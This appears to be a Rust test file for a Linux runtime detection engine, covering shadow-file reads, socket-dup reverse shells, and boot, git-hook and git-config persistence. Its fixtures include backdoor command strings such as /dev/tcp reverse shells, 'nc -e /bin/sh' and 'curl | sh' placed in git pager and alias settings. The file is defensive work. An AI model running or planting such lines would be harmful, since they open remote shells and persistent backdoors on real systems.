    // `cat /etc/shadow` is one finding: its command line and its open, counted twice.
    let cat = exec_by(
        401,
        "/usr/bin/cat",
        &["cat", "/etc/shadow"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    let mut d = detector();
    let found: Vec<_> = [cat, read_by(401, "/etc/shadow", None)]
        .iter()
        .flat_map(|e| d.process(e, &NoLookup))
        .collect();
    assert_eq!(found.len(), 2, "both raise");
    assert!(
        found[0].new && !found[1].new,
        "the open repeats the finding"
    );
    assert_eq!(found[1].finding.count, 2);
    // Their job: a PAM service as root, an account tool, a maintainer script under dpkg, a
    // child of sshd. Other files: a backup copy elsewhere, a project's file named shadow.
    let quiet = [
        (
            exec_by(402, "/usr/sbin/cron", &["/usr/sbin/cron", "-f"], &[]),
            read_by(402, "/etc/shadow", None),
        ),
        (
            exec_by(403, "/usr/sbin/useradd", &["useradd", "-r", "svc"], &[]),
            read_by(403, "/etc/gshadow", None),
        ),
        (
            exec_by(
                404,
                "/usr/bin/perl",
                &["perl", "/var/lib/dpkg/info/x.postinst"],
                &[(300, "/usr/bin/dpkg"), (1, "/usr/lib/systemd/systemd")],
            ),
            read_by(404, "/etc/shadow", None),
        ),
        (
            exec_by(
                405,
                "/usr/lib/openssh/sshd-session",
                &["sshd-session: ann [priv]"],
                &[(1, "/usr/sbin/sshd")],
            ),
            read_by(405, "/etc/shadow", None),
        ),
        (
            python.clone(),
            read_by(400, "/var/backups/shadow.bak", None),
        ),
        (python.clone(), read_by(400, "/home/ann/src/shadow", None)),
    ];
    for (exec, read) in quiet {
        assert!(shadow_read(&[exec, read]).is_empty());
    }
    // A process naming itself after a reader is not one.
    let renamed = exec_by(406, "/usr/bin/python3.11", &["cron"], &[]);
    assert_eq!(
        shadow_read(&[renamed, read_by(406, "/etc/shadow", None)]),
        medium
    );
}

/// A program's `dup2` of a connected socket onto its standard input or output.
fn dup_socket(pid: u32, comm: &str, fd: u8, family: &'static str, peer: &str) -> Event {
    activity("dupSocket", |a| {
        a.process = proc_ref(pid, comm);
        a.fds = Some((3, u64::from(fd)));
        a.socket = Some(crate::event::StdioSocket {
            fd,
            family,
            remote: peer.parse().ok(),
        });
    })
}

#[test]
fn a_shell_started_by_a_program_whose_standard_streams_are_a_socket_is_a_reverse_shell() {
    let reverse = |events: &[Event]| {
        run_all(events)
            .into_iter()
            .filter(|(t, _, _)| t == "Execution:Runtime/ReverseShell")
            .map(|(_, rule, _)| rule)
            .collect::<Vec<_>>()
    };
    let python = exec_by(
        700,
        "/usr/bin/python3.11",
        &["python3", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    let shell = |pid: u32, parent: u32, parent_exe: &str| {
        exec_by(
            pid,
            "/usr/bin/dash",
            &["/bin/sh"],
            &[(parent, parent_exe), (200, "/usr/bin/bash")],
        )
    };
    // python: os.dup2(s.fileno(), 0/1/2), then pty.spawn("/bin/sh") (a child on a terminal).
    assert_eq!(
        reverse(&[
            python.clone(),
            dup_socket(700, "python3", 0, "inet", "192.0.2.7:4444"),
            dup_socket(700, "python3", 1, "inet", "192.0.2.7:4444"),
            shell(701, 700, "/usr/bin/python3.11"),
        ]),
        ["behaviour-reverse-shell-stdio-dup"]
    );
    // Not a shell; standard error alone; a unix socket: nothing.
    assert!(
        reverse(&[
            python.clone(),
            dup_socket(700, "python3", 0, "inet", "192.0.2.7:4444"),
            exec_by(702, "/usr/bin/id", &["id"], &[(700, "/usr/bin/python3.11")]),
        ])
        .is_empty()
    );
    assert!(
        reverse(&[
            python.clone(),
            dup_socket(700, "python3", 2, "inet", "192.0.2.7:4444"),
            shell(703, 700, "/usr/bin/python3.11"),
        ])
        .is_empty()
    );
    assert!(
        reverse(&[
            python.clone(),
            dup_socket(700, "python3", 0, "unix", "bad"),
            shell(704, 700, "/usr/bin/python3.11"),
        ])
        .is_empty()
    );
    // An inetd-style launcher: the accepted connection on fd 0 and 1, then the service exec'd
    // in that process; a shell the service starts later is not judged by the launcher's dup.
    assert!(
        reverse(&[
            dup_socket(710, "systemd", 0, "inet6", "[2001:db8::1]:50000"),
            dup_socket(710, "systemd", 1, "inet6", "[2001:db8::1]:50000"),
            exec_by(
                710,
                "/usr/sbin/sshd",
                &["sshd", "-i"],
                &[(1, "/usr/lib/systemd/systemd")]
            ),
            shell(711, 710, "/usr/sbin/sshd"),
        ])
        .is_empty()
    );
    // The duper gone (its pid reused by another program): nothing.
    assert!(
        reverse(&[
            python.clone(),
            dup_socket(700, "python3", 0, "inet", "192.0.2.7:4444"),
            Event::Exit(crate::event::ExitInfo {
                time: "2026-11-27T10:00:01Z".into(),
                process: proc_ref(700, "python3"),
                exit_status: Some(0),
                signal: None,
            }),
            shell(705, 700, "/usr/bin/perl"),
        ])
        .is_empty()
    );
}

#[test]
fn initramfs_kernel_hooks_networkd_local_dbus_and_polkit_authority_places() {
    // PANIX's places that the Elastic pass left out: initramfs-tools' and dracut's
    // configuration, hooks and scripts, the kernel's install hooks, networkd-dispatcher's
    // packaged directory, local and session D-Bus places.
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    for (path, rule, kind) in [
        (
            "/etc/initramfs-tools/hooks/x",
            "behaviour-persistence-boot",
            "boot",
        ),
        (
            "/etc/initramfs-tools/scripts/init-premount/x",
            "behaviour-persistence-boot",
            "boot",
        ),
        (
            "/etc/initramfs-tools/modules",
            "behaviour-persistence-boot",
            "boot",
        ),
        (
            "/usr/share/initramfs-tools/scripts/init-bottom/x",
            "behaviour-persistence-boot",
            "boot",
        ),
        ("/etc/dracut.conf", "behaviour-persistence-boot", "boot"),
        (
            "/etc/dracut.conf.d/99-x.conf",
            "behaviour-persistence-boot",
            "boot",
        ),
        (
            "/etc/kernel/postinst.d/zz-x",
            "behaviour-persistence-boot",
            "boot",
        ),
        (
            "/etc/kernel/install.d/99-x.install",
            "behaviour-persistence-boot",
            "boot",
        ),
        (
            "/usr/lib/kernel/install.d/99-x.install",
            "behaviour-persistence-boot",
            "boot",
        ),
        (
            "/usr/lib/networkd-dispatcher/routable.d/50-x",
            "behaviour-persistence-network-hook",
            "network",
        ),
        (
            "/usr/local/share/dbus-1/services/org.x.service",
            "behaviour-persistence-dbus",
            "dbus",
        ),
        (
            "/usr/share/dbus-1/session.d/org.x.conf",
            "behaviour-persistence-dbus",
            "dbus",
        ),
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
            kind_of(rule, kind),
            "{path}"
        );
    }
    // Their neighbours are not.
    for path in [
        "/etc/initramfs-tools-old/hooks/x",
        "/etc/dracut.conf.bak",
        "/etc/kernel/cmdline",
        "/etc/kernel-img.conf",
        "/usr/lib/kernel/x",
        "/usr/share/dbus-1/interfaces/org.x.xml",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // An editor may change the initramfs configuration and dracut's; not drop a hook.
    let by = |pid: u32, exe: &str, argv: &[&str], path: &str| {
        persistence_kinds(&[
            exec_by(pid, exe, argv, &[(200, "/usr/bin/bash")]),
            write_by(pid, super::basename(argv[0]), path),
        ])
    };
    for path in [
        "/etc/initramfs-tools/modules",
        "/etc/initramfs-tools/initramfs.conf",
        "/etc/initramfs-tools/conf.d/resume",
        "/etc/dracut.conf",
        "/etc/dracut.conf.d/x.conf",
    ] {
        assert!(
            by(340, "/usr/bin/vim.basic", &["vim", path], path).is_empty(),
            "{path}"
        );
    }
    assert_eq!(
        by(
            341,
            "/usr/bin/vim.basic",
            &["vim", "x"],
            "/etc/initramfs-tools/hooks/x"
        ),
        kind_of("behaviour-persistence-boot", "boot")
    );
    // polkit's local authority configuration (`AdminIdentities=`) is its policy, as sudo's.
    let found = run_all(&[
        sh.clone(),
        write_by(320, "sh", "/etc/polkit-1/localauthority.conf.d/60-x.conf"),
    ]);
    assert!(
        found.iter().any(
            |(t, r, _)| t == "PrivilegeEscalation:Runtime/SuspiciousCommand"
                && r == "behaviour-sudoers-modified"
        ),
        "{found:?}"
    );
}

#[test]
fn git_hooks_are_persistence_by_their_place_and_writer() {
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    // A hook written, moved into place or made executable by a shell, in a work tree's
    // repository, a bare repository and a submodule's.
    for path in [
        "/home/ann/src/app/.git/hooks/pre-commit",
        "/srv/git/app.git/hooks/post-receive",
        "/srv/git/app.git/hooks/update",
        "/root/app/.git/modules/lib/hooks/post-checkout",
        "/root/app/.git/hooks/fsmonitor-watchman",
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
            kind_of("behaviour-persistence-git-hook", "git"),
            "{path}"
        );
    }
    let chmod = file_event("chmod", "/root/app/.git/hooks/pre-push", |f| {
        f.process = proc_ref(320, "chmod");
        f.ret = 0;
    });
    assert_eq!(
        persistence_kinds(&[sh.clone(), chmod]),
        kind_of("behaviour-persistence-git-hook", "git")
    );
    // A file of a hook's name elsewhere raises nothing at all (no SensitiveFileModified
    // either): the name is in the kernel's set for this check alone.
    for path in [
        "/usr/local/bin/update",
        "/root/app/scripts/pre-commit",
        "/root/app/.git/hooks-old/pre-commit",
        "/root/app/.git/myhooks/pre-commit",
        "/var/lib/x/post-update",
    ] {
        let found = run_all(&[sh.clone(), write_by(320, "sh", path)]);
        assert!(found.is_empty(), "{path}: {found:?}");
    }
    // git itself (a repository's templates at init or clone), an editor, and a package
    // manager raise nothing.
    let by = |pid: u32, exe: &str, argv: &[&str], path: &str| {
        run_all(&[
            exec_by(pid, exe, argv, &[(200, "/usr/bin/bash")]),
            write_by(pid, super::basename(argv[0]), path),
        ])
    };
    for (exe, argv) in [
        ("/usr/bin/git", &["git", "init"][..]),
        ("/usr/local/bin/git", &["git", "clone", "x"][..]),
        ("/usr/bin/vim.basic", &["vim", ".git/hooks/pre-commit"][..]),
        ("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"][..]),
    ] {
        let found = by(350, exe, argv, "/root/app/.git/hooks/pre-commit");
        assert!(found.is_empty(), "{argv:?}: {found:?}");
    }
    // A python program (not git) writing one does.
    assert_eq!(
        persistence_kinds(&[
            exec_by(
                351,
                "/usr/bin/python3.11",
                &["python3", "/tmp/x.py"],
                &[(200, "/usr/bin/bash")]
            ),
            write_by(351, "python3", "/root/app/.git/hooks/post-merge"),
        ]),
        kind_of("behaviour-persistence-git-hook", "git")
    );
}

#[test]
fn git_settings_that_run_a_command_are_parsed_as_git_reads_them() {
    use super::technique::git_command_settings as settings;
    let text = "[user]\n\tname = Ann\n\tpager = not-core\n[core]\n\tPager = \"less -FRX\"\n\
                # core.pager = commented\n[core \"sub\"]\n\tpager = sub\n[CORE] sshCommand = ssh -i k\n\
                [core]\n\tfsmonitor=true\n";
    let pairs = |v: &[(&str, &str)]| -> Vec<(String, String)> {
        v.iter()
            .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
            .collect()
    };
    assert_eq!(
        settings(text),
        pairs(&[
            ("core.pager", "less -FRX"),
            ("core.sshcommand", "ssh -i k"),
            ("core.fsmonitor", "true"),
        ])
    );
    // Aliases, included files and the hooks directory too; not a person's other settings.
    let text = "[core]\n\teditor = vim\n\tautocrlf = input\n\thooksPath = /tmp/h\n\
                [credential]\n\thelper = store\n[alias]\n\tco = checkout\n\
                \tlg = \"!git log --graph\"\n[include]\n\tpath = ~/.gitconfig-work\n\
                [includeIf \"gitdir:~/work/\"]\n\tpath = /dev/shm/x\n";
    assert_eq!(
        settings(text),
        pairs(&[
            ("core.hookspath", "/tmp/h"),
            ("alias.co", "checkout"),
            ("alias.lg", "!git log --graph"),
            ("include.path", "~/.gitconfig-work"),
            ("includeif \"gitdir:~/work/\".path", "/dev/shm/x"),
        ])
    );
    use super::technique::git_command_oddity as odd;
    // What people set.
    for value in [
        "less -FRX",
        "delta",
        "diff-so-fancy | less --tabs=4 -RFX",
        "ssh -i ~/.ssh/deploy -o IdentitiesOnly=yes",
        "true",
        ".git/hooks/fsmonitor-watchman",
        "cat",
    ] {
        assert_eq!(odd(value), None, "{value}");
    }
    // What a backdoor sets (PANIX's pager first).
    for value in [
        "nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' > /dev/null 2>&1 & ${PAGER:-less}",
        "/tmp/.x; less",
        "less $(curl -s http://127.0.0.1/x)",
        "sh -c 'nc 127.0.0.1 4444 -e /bin/sh'",
        "/dev/shm/x",
        "curl -s http://127.0.0.1/x | sh",
    ] {
        assert!(odd(value).is_some(), "{value}");
    }
}

#[test]
fn a_git_configuration_written_with_a_backdoor_command_is_persistence() {
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    let git = exec_by(
        321,
        "/usr/local/bin/git",
        &["git", "config", "--global", "user.name", "Ann"],
        &[(200, "/usr/bin/bash")],
    );
    let backdoor = "[user]\n\tname = Ann\n[core]\n        pager = nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' > /dev/null 2>&1 & ${PAGER:-less}\n";
    let plain =
        "[user]\n\tname = Ann\n\temail = ann@example.invalid\n[core]\n\tpager = less -FRX\n";
    let written = |pid: u32, comm: &str, path: &str, text: &str| {
        file_event("openWrite", path, |f| {
            f.process = proc_ref(pid, comm);
            f.matched_by = vec!["name"];
            f.git_config = Some(text.to_owned());
        })
    };
    // `git config` renames its lock file into place.
    let renamed = |pid: u32, path: &str, text: &str| {
        file_event("rename", &format!("{path}.lock"), |f| {
            f.process = proc_ref(pid, "git");
            f.path2 = Some(path.into());
            f.resolved_path2 = Some(PathBuf::from(path));
            f.ret = 0;
            f.git_config = Some(text.to_owned());
        })
    };
    for (events, what) in [
        (
            vec![sh.clone(), written(320, "sh", "/root/.gitconfig", backdoor)],
            "appended by a shell",
        ),
        (
            vec![git.clone(), renamed(321, "/home/ann/.gitconfig", backdoor)],
            "set with git config",
        ),
        (
            vec![sh.clone(), written(320, "sh", "/etc/gitconfig", backdoor)],
            "the system's",
        ),
    ] {
        let found = run_all(&events);
        assert_eq!(
            found,
            vec![(
                "Persistence:Runtime/SuspiciousCommand".to_owned(),
                "behaviour-persistence-git-config".to_owned(),
                SeverityLabel::Medium
            )],
            "{what}"
        );
    }
    // `git config --global user.name`, a plain pager, a shell writing a person's settings, a
    // file of that name that is not git's, and a package manager: nothing at all (no
    // SensitiveFileModified either).
    for events in [
        vec![git.clone(), renamed(321, "/home/ann/.gitconfig", plain)],
        vec![sh.clone(), written(320, "sh", "/root/.gitconfig", plain)],
        vec![sh.clone(), written(320, "sh", "/etc/gitconfig", "")],
        vec![
            exec_by(
                322,
                "/usr/bin/dpkg",
                &["dpkg", "-i", "x.deb"],
                &[(1, "/usr/lib/systemd/systemd")],
            ),
            written(322, "dpkg", "/etc/gitconfig", backdoor),
        ],
    ] {
        let found = run_all(&events);
        assert!(found.is_empty(), "{found:?}");
    }
}

#[test]
fn git_configurations_are_read_where_git_reads_them() {
    use super::technique::is_git_config;
    for path in [
        "/root/.gitconfig",
        "/etc/gitconfig",
        "/home/ann/src/app/.git/config",
        "/srv/git/app.git/config",
        "/home/ann/src/app/.git/modules/lib/config",
        "/home/ann/.config/git/config",
    ] {
        assert!(is_git_config(std::path::Path::new(path)), "{path}");
    }
    for path in [
        "/home/ann/.ssh/config",
        "/root/.kube/config",
        "/etc/selinux/config",
        "/home/ann/src/app/config",
        "/home/ann/src/app/.git/config.lock",
        "/home/ann/src/app/.github/config",
        "/home/ann/.config/gitx/config",
    ] {
        assert!(!is_git_config(std::path::Path::new(path)), "{path}");
    }
}

#[test]
fn git_aliases_are_judged_as_shell_snippets() {
    use super::technique::git_alias_oddity as odd;
    // What people write: chains, functions, substitutions and redirections are aliases' stuff.
    for command in [
        "git log --graph --oneline",
        "f() { git fetch upstream && git rebase upstream/main; }; f",
        "git branch --merged | grep -v main | xargs -r git branch -d",
        "git branch -d $(git branch --merged) 2>/dev/null",
        "gitk --all &>/dev/null",
        "sh -c 'git status 2>&1 | less'",
    ] {
        assert_eq!(odd(command), None, "{command}");
    }
    // What a backdoor writes.
    for command in [
        "(bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &); git status",
        "nohup /tmp/.x >/dev/null 2>&1 & git log",
        "f() { nc 127.0.0.1 4444 -e /bin/sh; }; f",
        "/dev/shm/x; git status",
        "curl -s http://127.0.0.1/x | sh",
    ] {
        assert!(odd(command).is_some(), "{command}");
    }
}

#[test]
fn a_repository_or_xdg_configuration_with_a_backdoor_setting_is_persistence() {
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    let git = exec_by(
        321,
        "/usr/local/bin/git",
        &["git", "config", "core.fsmonitor", "x"],
        &[(200, "/usr/bin/bash")],
    );
    let written = |path: &str, text: &str| {
        file_event("openWrite", path, |f| {
            f.process = proc_ref(320, "sh");
            f.matched_by = vec!["name"];
            f.git_config = Some(text.to_owned());
        })
    };
    let renamed = |path: &str, text: &str| {
        file_event("rename", &format!("{path}.lock"), |f| {
            f.process = proc_ref(321, "git");
            f.matched_by = vec!["name"];
            f.path2 = Some(path.into());
            f.resolved_path2 = Some(PathBuf::from(path));
            f.ret = 0;
            f.git_config = Some(text.to_owned());
        })
    };
    let cloned = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\
                  \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://example.invalid/x.git\n\
                  \tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\
                  \tmerge = refs/heads/main\n";
    let setting = |rest: &str| format!("{cloned}{rest}");
    let repo = "/home/ann/src/app/.git/config";
    let xdg = "/home/ann/.config/git/config";
    let found = |events: Vec<Event>| -> Vec<(String, String, SeverityLabel)> { run_all(&events) };
    let raised = vec![(
        "Persistence:Runtime/SuspiciousCommand".to_owned(),
        "behaviour-persistence-git-config".to_owned(),
        SeverityLabel::Medium,
    )];
    for (path, text) in [
        (
            repo,
            setting("[core]\n\tfsmonitor = \"nohup /tmp/.x & true\"\n"),
        ),
        (repo, setting("[core]\n\tpager = /dev/shm/p\n")),
        (
            xdg,
            setting("[core]\n\tsshCommand = ssh -o ProxyCommand='nc 127.0.0.1 9 %h %p'\n"),
        ),
        (repo, setting("[include]\n\tpath = /tmp/.cfg\n")),
        (
            xdg,
            setting("[includeIf \"gitdir:/\"]\n\tpath = /dev/shm/.cfg\n"),
        ),
        (repo, setting("[core]\n\thooksPath = /dev/shm/.h\n")),
        (repo, setting("[core]\n\thooksPath = /tmp\n")),
        (
            repo,
            setting(
                "[alias]\n\tst = \"!(bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &); git status\"\n",
            ),
        ),
    ] {
        assert_eq!(
            found(vec![sh.clone(), written(path, &text)]),
            raised,
            "sh: {text}"
        );
        assert_eq!(
            found(vec![git.clone(), renamed(path, &text)]),
            raised,
            "git: {text}"
        );
    }
    // What projects and people set: an editor, line endings, a credential store, aliases of
    // git commands and of plain shell, an include of a file beside the others, hooks kept in
    // the repository, a clone's remote and branch. Nothing at all (no SensitiveFileModified).
    for text in [
        cloned.to_owned(),
        setting("[core]\n\teditor = vim\n\tautocrlf = input\n"),
        setting("[credential]\n\thelper = store\n"),
        setting("[alias]\n\tco = checkout\n\tlg = \"!git log --graph --oneline\"\n"),
        setting(
            "[alias]\n\tsync = \"!f() { git fetch upstream && git rebase upstream/main; }; f\"\n",
        ),
        setting("[include]\n\tpath = ~/.gitconfig-work\n"),
        setting("[includeIf \"gitdir:~/work/\"]\n\tpath = ~/work/.gitconfig\n"),
        setting("[core]\n\thooksPath = .githooks\n"),
        setting("[user]\n\tname = Ann\n"),
    ] {
        for path in [repo, xdg] {
            assert!(
                found(vec![sh.clone(), written(path, &text)]).is_empty(),
                "{path}: {text}"
            );
            assert!(
                found(vec![git.clone(), renamed(path, &text)]).is_empty(),
                "{path}: {text}"
            );
        }
    }
    // Files named `config` that are not git's: nothing, whatever they say.
    for path in [
        "/root/.ssh/config",
        "/home/ann/.kube/config",
        "/etc/selinux/config",
        "/home/ann/src/app/config",
    ] {
        let f = file_event("openWrite", path, |f| {
            f.process = proc_ref(320, "sh");
            f.matched_by = vec!["name"];
        });
        assert!(found(vec![sh.clone(), f]).is_empty(), "{path}");
    }
    // A package manager writing a repository's configuration: nothing.
    let dpkg = exec_by(
        322,
        "/usr/bin/dpkg",
        &["dpkg", "-i", "x.deb"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    let text = setting("[core]\n\thooksPath = /tmp\n");
    let by_dpkg = file_event("openWrite", repo, |f| {
        f.process = proc_ref(322, "dpkg");
        f.git_config = Some(text.clone());
    });
    assert!(found(vec![dpkg, by_dpkg]).is_empty());
}

#[test]
fn an_initramfs_image_replaced_by_anything_but_its_builders_is_persistence() {
    let boot = kind_of("behaviour-persistence-boot", "boot");
    // A `#!` script as the kernel runs it: the interpreter with the script's path in argv,
    // the script's path exec'd.
    let script =
        |pid: u32, interpreter: &str, path: &str, args: &[&str], lineage: &[(u32, &str)]| {
            let mut argv = vec![interpreter, path];
            argv.extend_from_slice(args);
            let mut e = exec_by(pid, interpreter, &argv, lineage);
            if let Event::Exec(x) = &mut e {
                x.filename = path.to_owned();
            }
            e
        };
    let sh = exec_by(
        320,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[(200, "/usr/bin/bash")],
    );
    // A repacked image copied over the image, or renamed into place, by a shell or cp.
    for path in [
        "/boot/initrd.img-6.1.0-28-amd64",
        "/boot/initramfs-6.11.4-301.fc41.x86_64.img",
        "/boot/initramfs-linux.img",
        // The kernel, a unified kernel image and boot loaders on the EFI system partition.
        "/boot/vmlinuz-6.1.0-28-amd64",
        "/boot/vmlinuz-linux",
        "/boot/efi/EFI/Linux/debian-6.1.0-28-amd64.efi",
        "/efi/EFI/Linux/arch-linux.efi",
        "/boot/efi/EFI/debian/grubx64.efi",
        "/boot/efi/EFI/BOOT/BOOTX64.EFI",
        "/boot/EFI/systemd/systemd-bootx64.efi",
    ] {
        assert_eq!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]),
            boot,
            "{path}"
        );
        let mv = file_event("rename", "/tmp/x.img", |f| {
            f.process = proc_ref(320, "mv");
            f.path2 = Some(path.into());
            f.resolved_path2 = Some(PathBuf::from(path));
            f.ret = 0;
        });
        assert_eq!(persistence_kinds(&[sh.clone(), mv]), boot, "{path}");
    }
    // Beside the images: nothing of this check.
    for path in [
        "/boot/initrd.img",
        "/boot/config-6.1.0-28-amd64",
        "/boot/System.map-6.1.0-28-amd64",
        "/boot/initramfs-",
        "/boot/efi/startup.nsh",
    ] {
        assert!(
            persistence_kinds(&[sh.clone(), write_by(320, "sh", path)]).is_empty(),
            "{path}"
        );
    }
    // The builders and what they run (update-initramfs -> mkinitramfs -> a subshell's
    // redirection, then update-initramfs -> mv; dracut -> cp; mkinitcpio), by hand or under
    // dpkg (a kernel package's postinst): nothing at all, not even SensitiveFileModified.
    let new = "/boot/initrd.img-6.1.0-28-amd64.new";
    let image = "/boot/initrd.img-6.1.0-28-amd64";
    let update = script(
        400,
        "/usr/bin/dash",
        "/usr/sbin/update-initramfs",
        &["-u"],
        &[(200, "/usr/bin/bash")],
    );
    let mkinitramfs = script(
        401,
        "/usr/bin/dash",
        "/usr/sbin/mkinitramfs",
        &["-o", new],
        &[(400, "/usr/bin/dash"), (200, "/usr/bin/bash")],
    );
    let cpio = exec_by(
        402,
        "/usr/bin/cpio",
        &["cpio", "-o", "-H", "newc"],
        &[
            (401, "/usr/bin/dash"),
            (400, "/usr/bin/dash"),
            (200, "/usr/bin/bash"),
        ],
    );
    let mv = exec_by(
        403,
        "/usr/bin/mv",
        &["mv", "-f", new, image],
        &[(400, "/usr/bin/dash"), (200, "/usr/bin/bash")],
    );
    let renamed = file_event("rename", new, |f| {
        f.process = proc_ref(403, "mv");
        f.path2 = Some(image.into());
        f.resolved_path2 = Some(PathBuf::from(image));
        f.ret = 0;
    });
    let by_hand = vec![
        update.clone(),
        mkinitramfs.clone(),
        write_by(401, "mkinitramfs", new),
        cpio.clone(),
        write_by(402, "cpio", new),
        mv.clone(),
        renamed.clone(),
    ];
    let found = run_all(&by_hand);
    assert!(found.is_empty(), "update-initramfs: {found:?}");
    let dracut = script(
        410,
        "/usr/bin/bash",
        "/usr/bin/dracut",
        &["-f"],
        &[(200, "/usr/bin/bash")],
    );
    let cp = exec_by(
        411,
        "/usr/bin/cp",
        &[
            "cp",
            "--reflink=auto",
            "/var/tmp/dracut.x/initramfs.img",
            "/boot/initramfs-6.11.4-301.fc41.x86_64.img",
        ],
        &[(410, "/usr/bin/bash"), (200, "/usr/bin/bash")],
    );
    let found = run_all(&[
        dracut,
        cp,
        write_by(411, "cp", "/boot/initramfs-6.11.4-301.fc41.x86_64.img"),
    ]);
    assert!(found.is_empty(), "dracut: {found:?}");
    // The boot loaders' and kernel images' installers: grub-install copying its loader onto the
    // EFI system partition, kernel-install's plugin writing a unified kernel image.
    let grub_install = exec_by(
        412,
        "/usr/sbin/grub-install",
        &["grub-install", "--target=x86_64-efi"],
        &[(200, "/usr/bin/bash")],
    );
    let kernel_install = script(
        413,
        "/usr/bin/bash",
        "/usr/bin/kernel-install",
        &["add", "6.1.0-28-amd64", "/boot/vmlinuz-6.1.0-28-amd64"],
        &[(200, "/usr/bin/bash")],
    );
    let plugin = script(
        414,
        "/usr/bin/bash",
        "/usr/lib/kernel/install.d/60-ukify.install",
        &["add"],
        &[(413, "/usr/bin/bash"), (200, "/usr/bin/bash")],
    );
    let found = run_all(&[
        grub_install,
        write_by(412, "grub-install", "/boot/efi/EFI/debian/grubx64.efi"),
        kernel_install,
        plugin,
        write_by(
            414,
            "60-ukify.instal",
            "/boot/efi/EFI/Linux/debian-6.1.0-28-amd64.efi",
        ),
    ]);
    assert!(found.is_empty(), "grub-install, kernel-install: {found:?}");
    let dpkg = exec_by(
        300,
        "/usr/bin/dpkg",
        &["dpkg", "--configure", "-a"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    let under_dpkg = script(
        404,
        "/usr/bin/dash",
        "/usr/sbin/update-initramfs",
        &["-c", "-k", "6.1.0-28-amd64"],
        &[(300, "/usr/bin/dpkg"), (1, "/usr/lib/systemd/systemd")],
    );
    let mv_under_dpkg = exec_by(
        405,
        "/usr/bin/mv",
        &["mv", "-f", new, image],
        &[(404, "/usr/bin/dash"), (300, "/usr/bin/dpkg")],
    );
    let renamed_under_dpkg = file_event("rename", new, |f| {
        f.process = proc_ref(405, "mv");
        f.path2 = Some(image.into());
        f.resolved_path2 = Some(PathBuf::from(image));
        f.ret = 0;
    });
    let found = run_all(&[dpkg, under_dpkg, mv_under_dpkg, renamed_under_dpkg]);
    assert!(found.is_empty(), "under dpkg: {found:?}");
    // mv run by a shell, named like the builder's: its lineage says bash.
    let impostor = exec_by(
        406,
        "/usr/bin/mv",
        &["mv", "-f", "/tmp/x.img", image],
        &[(200, "/usr/bin/bash")],
    );
    let renamed = file_event("rename", "/tmp/x.img", |f| {
        f.process = proc_ref(406, "update-initramfs");
        f.path2 = Some(image.into());
        f.resolved_path2 = Some(PathBuf::from(image));
        f.ret = 0;
    });
    assert_eq!(persistence_kinds(&[impostor, renamed]), boot);
}

#[test]
fn a_maintainer_script_writing_a_sensitive_file_is_installation_an_apt_hook_is_not() {
    // dpkg -> sh postinst -> perl pam-auth-update writing /etc/pam.d/common-auth: nothing.
    let dpkg = exec_by(
        300,
        "/usr/bin/dpkg",
        &["dpkg", "--configure", "-a"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    let postinst = exec_by(
        302,
        "/usr/bin/dash",
        &[
            "/bin/sh",
            "/var/lib/dpkg/info/libpam-x.postinst",
            "configure",
        ],
        &[(300, "/usr/bin/dpkg"), (1, "/usr/lib/systemd/systemd")],
    );
    let update = exec_by(
        303,
        "/usr/bin/perl",
        &["/usr/sbin/pam-auth-update", "--package"],
        &[
            (302, "/usr/bin/dash"),
            (300, "/usr/bin/dpkg"),
            (1, "/usr/lib/systemd/systemd"),
        ],
    );
    for (events, what) in [
        (
            vec![
                dpkg.clone(),
                postinst.clone(),
                write_by(302, "libpam-x.postin", "/etc/pam.d/vigil"),
            ],
            "the postinst",
        ),
        (
            vec![
                dpkg.clone(),
                postinst.clone(),
                update,
                write_by(303, "pam-auth-update", "/etc/pam.d/common-auth"),
            ],
            "pam-auth-update under the postinst",
        ),
        (
            vec![
                dpkg.clone(),
                postinst.clone(),
                write_by(302, "libpam-x.postin", "/etc/sudoers.d/x"),
            ],
            "a sudoers drop-in",
        ),
    ] {
        let found = run_all(&events);
        assert!(found.is_empty(), "{what}: {found:?}");
    }
    // apt-get -> sh -c HOOK (APT::Update::Pre-Invoke): apt is not a package manager here, its
    // hooks are its own children: the write raises, SensitiveFileModified and the persistence
    // finding.
    let apt = exec_by(
        310,
        "/usr/bin/apt-get",
        &["apt-get", "update"],
        &[(200, "/usr/bin/bash")],
    );
    let hook = exec_by(
        311,
        "/usr/bin/dash",
        &["sh", "-c", "echo x >> /etc/pam.d/vigil"],
        &[(310, "/usr/bin/apt-get"), (200, "/usr/bin/bash")],
    );
    let found = run_all(&[apt, hook, write_by(311, "sh", "/etc/pam.d/vigil")]);
    let types: Vec<&str> = found.iter().map(|(t, _, _)| t.as_str()).collect();
    assert!(
        types.contains(&"PrivilegeEscalation:Runtime/SensitiveFileModified")
            && found
                .iter()
                .any(|(_, r, _)| r == "behaviour-persistence-pam"),
        "{found:?}"
    );
}

